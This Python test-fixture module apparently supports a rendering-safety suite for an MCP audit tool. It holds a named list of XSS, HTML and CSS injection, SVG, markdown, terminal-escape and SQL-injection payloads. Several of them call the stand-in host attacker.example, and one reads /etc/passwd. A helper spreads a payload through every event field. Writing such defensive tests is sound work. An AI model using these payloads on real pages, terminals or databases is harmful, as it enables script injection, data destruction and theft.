"""Payloads that attack whatever shows them, and events that have one in every field.

A payload that gets through sets ``window.hostile``, opens a dialog, asks for something at
``attacker.example``, breaks out of its element, or commands a terminal.
"""

from __future__ import annotations

import base64
from typing import Any

from mcpaudit_lab import Event, Payload
from mcpaudit_lab.record import EVENT_FIELDS

__all__ = ["PAYLOADS", "hostile_event"]

_URL = "http://attacker.example/"
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.hostile=1'><image href='{_URL}'/>"

PAYLOADS: dict[str, str] = {
    # Script
    "script": "<script>window.hostile='script'</script>",
    "script-from-url": f"<script src='{_URL}x.js'></script>",
    "script-upper": "<SCRIPT\x0c>window.hostile='script'</SCRIPT >",
    "script-split": "<scr<script>ipt>window.hostile='split'</scr</script>ipt>",
    "dialog": "<script>alert('hostile')</script>",
    "end-of-style": "</style><script>window.hostile='style'</script>",
    "end-of-title": "</title></textarea></noscript><img src=x onerror=\"window.hostile='title'\">",
    "comment": "--><script>window.hostile='comment'</script><!--",
    "cdata": "]]><script>window.hostile='cdata'</script><![CDATA[",
    "entities": "&lt;script&gt;window.hostile='entities'&lt;/script&gt; &#60;img src=x&#62;",
    # Attributes
    "double-quote": '" onmouseover="window.hostile=\'mouse\'" autofocus onfocus="window.hostile=1',
    "single-quote": "' onclick='window.hostile=1' autofocus onfocus='window.hostile=1",
    "backtick": "`onmouseover=window.hostile=1`",
    "no-quote": "x onload=window.hostile=1 onerror=window.hostile=1",
    "error": "<img src=x onerror=\"window.hostile='img'\">",
    "error-slash": "<img/src=x/onerror=window.hostile=1//",
    "toggle": '<details open ontoggle="window.hostile=1"><summary>x</summary></details>',
    "animation": '<b style="animation:x" onanimationstart="window.hostile=1">x</b>',
    "input": '<input autofocus onfocus="window.hostile=1">',
    "body": '<body onload="window.hostile=1" onpageshow="window.hostile=1">',
    # URLs
    "image": f"<img src='{_URL}i.png'><picture><source srcset='{_URL}s.png'></picture>",
    "link": f"<link rel=stylesheet href='{_URL}c.css'><link rel=prefetch href='{_URL}p'>",
    "frame": f"<iframe src='{_URL}'></iframe><iframe srcdoc='<script>top.hostile=1</script>'>",
    "script-url": '<iframe src="javascript:top.hostile=1"></iframe><a href=javascript:alert(1)>x',
    "object": f"<object data='{_URL}'></object><embed src='{_URL}'><video src='{_URL}' autoplay>",
    "base": f"<base href='{_URL}'><meta http-equiv=refresh content='0;url={_URL}'>",
    "form": f"<form action='{_URL}' id=f></form><button form=f autofocus>Trust</button>",
    "bare-url": f"{_URL}track?x=1 javascript:window.hostile=1 data:text/html,<script>1</script>",
    # Style
    "style": f"<style>@import '{_URL}s.css'; * {{ display: none !important }}</style>",
    "style-attribute": f'" style="position:fixed;inset:0;background:url({_URL}b.png)" x="',
    "style-value": f"red;}} .mcpaudit-lab {{ background: url({_URL}v.png) }} x {{",
    "css-escape": "\\3c script\\3e window.hostile=1\\3c /script\\3e",
    # SVG, MathML, templates
    "svg": _SVG,
    "svg-script": "<svg><script>window.hostile='svg'</script></svg>",
    "svg-animate": '<svg><animate onbegin="window.hostile=1" attributeName=x dur=1s></svg>',
    "svg-foreign": "<svg><foreignObject><iframe onload=window.hostile=1></foreignObject></svg>",
    "svg-url": "data:image/svg+xml;base64," + base64.b64encode(_SVG.encode()).decode(),
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    " onerror=window.hostile=1&gt;'>",
    "template": "<template><script>window.hostile=1</script></template>{{7*7}}${7*7}<%= 7*7 %>",
    "markdown": f"![x]({_URL}m.png) [x](javascript:window.hostile=1) **bold** `code` # x",
    "mathjax": r"$\href{javascript:window.hostile=1}{x}$ \(\style{position:fixed}{x}\) $5 and $6",
    "mathtext": r"$\frac{$ $x^{2} $\unknown$ \input{/etc/passwd} {%",
    # Structure
    "closing-tags": "</span></td></tr></table></details></summary></div></div></div></body></html>",
    "opening-tags": "<div><table><tr><td><details><summary><ul><pre><textarea><plaintext>",
    "conditional": "<!--[if true]><script>window.hostile=1</script><![endif]--><!DOCTYPE html>",
    "null-bytes": "<scr\x00ipt>window.hostile=1</scr\x00ipt>\x00",
    "json": '{"<img src=x onerror=window.hostile=1>": ["<script>window.hostile=1</script>", 1]}',
    "json-list": '[{"a":"</script><script>window.hostile=1</script>"},"\\u003cscript\\u003e"]',
    "redacted-lookalike": "<redacted><script>window.hostile=1</script>",
    "redacted-mark": "<REDACTED: x onerror=window.hostile=1>",
    # Text that reorders, hides, or grows
    "bidi": "\u202egnp.exe\u202c \u2066x\u2067y\u2069 \u061c\u200f\u200e",
    "rtl": "\u05d0\u05d1\u05d2 (1) \u0627\u0644\u0639 > 5",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ade\U000e0041\U000e007f",
    "zalgo": "Z" + "\u0301\u0316\u0489" * 200 + "o" + "\u0e47" * 100,
    "wide": "\ufdfd" * 40 + "\U0001242b" * 20,
    "long": "W" * 4000,
    "long-words": "word " * 1000,
    "many-lines": "line\n" * 800,
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf\r\ng\th",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea \u4e2d\u6587",
    "surrogate": "\ud800 \udfff",
    "spaces": "   leading and    inner  ",
    # Terminals
    "ansi": "\x1b[31mred\x1b[2J\x1b[1;1H\x1b[8mhidden\x1b[0m",
    "osc": "\x1b]0;title\x07\x1b]8;;http://attacker.example/\x07link\x1b]8;;\x07\x1b]52;c;eA==\x07",
    "c1": "\x9b31m\x90dcs\x9c\x85",
    "backspace": "safe\x08\x08\x08\x08evil\r\x7f",
    "markup": "[bold red]x[/bold red] [link=http://attacker.example/]x[/link] :skull:",
    "format": "%s %(x)s {0} {x.__class__} %n\\N{BELL}\\x1b[31m",
    "sql": "'; drop table audit_events; --",
    "wildcards": "a*b,c%_?[x]",
}
"""Each payload by the name that a failing test shows."""

# What a field of each kind that is no text may hold.
_NUMBERS = {"int": 2**62, "bool": False}


def hostile_event(text: str, number: int = 1, *, payload: bool = True) -> Event:
    """An event with this text wherever the record lets one be.

    Args:
        text: the payload.
        number: tells events apart: id and time follow it.
        payload: with the request and response.
    """
    wire: dict[str, Any] = {
        field.name: text if field.kind == "text" else _NUMBERS[field.kind]
        for field in EVENT_FIELDS
        if field.kind in ("text", *_NUMBERS)
    }
    wire |= {
        "id": f"00000000-0000-4000-8000-{number:012d}",
        "timestamp": f"2026-11-24T03:{number // 60 % 60:02d}:{number % 60:02d}Z",
        "parameters": _tree(text),
        f"extra {text}": _tree(text),
    }
    event = Event(wire)
    return event.with_payload(_payload(text, number)) if payload else event


def _tree(text: str) -> dict[str, Any]:
    return {
        text: text,
        "nested": [text, {text: {text: [text, None, True, 1.5, 10**300]}}],
        "json": f'{{"text": "{base64.b64encode(text.encode("utf-8", "replace")).decode()}"}}',
    }


def _payload(text: str, number: int) -> Payload:
    data = base64.b64encode(text.encode("utf-8", "replace")).decode()
    blocks = [
        {"type": "text", "text": text},
        {"type": text, "text": text, "_meta": {text: text}},
        # Data that is no picture, a type that is none, and both with quotes in them.
        {"type": "image", "data": data, "mimeType": "image/png"},
        {"type": "image", "data": text, "mimeType": "image/png"},
        {"type": "image", "data": _PNG, "mimeType": text},
        {"type": "image", "data": _PNG, "mimeType": f"image/png;{text}"},
        {"type": "image", "data": _PNG + text, "mimeType": "image/png"},
        {"type": "image", "data": data, "mimeType": "image/svg+xml"},
        {"type": "audio", "data": text, "mimeType": "audio/wav"},
        {"type": "audio", "data": data, "mimeType": "text/html"},
        {"type": "resource", "resource": {"uri": text, "mimeType": "image/png", "blob": text}},
        {"type": "resource", "resource": {"uri": text, "mimeType": text, "text": text}},
        {"type": "resource_link", "uri": f"javascript:{text}", "name": text, "title": text},
    ]
    return Payload.build(
        jsonrpc_method=text,
        request_params=_tree(text),
        request_size_bytes=number,
        request_headers={"User-Agent": [text], text: [text, text], f"X-{text}": text},
        request_remote_addr=text,
        response_result={"content": blocks, "isError": True, "structuredContent": _tree(text)},
        response_error={"message": text, "category": text, text: _tree(text)},
        response_size_bytes=number,
        notifications=[
            {"ts": "2026-11-24T03:43:44Z", "method": text, "params": _tree(text)},
            {"ts": text, "method": text, "params": text, text: text},
        ],
        **{f"extra {text}": text},
    )


# A red dot: the smallest picture that is one.
_PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5E"
    "rkJggg=="
)
